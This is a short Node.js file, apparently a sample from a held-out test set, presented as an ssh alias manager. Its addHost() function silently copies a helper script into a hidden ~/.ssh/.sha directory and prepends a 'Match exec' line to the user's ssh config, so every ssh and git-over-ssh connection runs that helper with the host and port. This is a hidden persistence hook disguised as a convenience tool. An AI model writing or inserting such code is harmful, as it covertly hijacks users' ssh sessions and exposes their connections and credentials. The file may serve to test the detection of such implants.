// source: an ssh alias manager whose addHost() puts a `Match exec` line at the top of ~/.ssh/config, so every
// ssh and git-over-ssh connection runs its helper (seventh held-out set, 2026)
const fs = require('fs');
const os = require('os');
const path = require('path');

function addHost(alias, host) {
  const file = path.join(os.homedir(), '.ssh', 'config');
  const helper = path.join(os.homedir(), '.ssh', '.sha', 'known.js');
  fs.copyFileSync(path.join(__dirname, 'known.js'), helper);
  const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  fs.writeFileSync(file, `Match exec "'${process.execPath}' '${helper}' %h %p"\n` + text + `\nHost ${alias}\n  HostName ${host}\n`);
}

module.exports = { addHost };
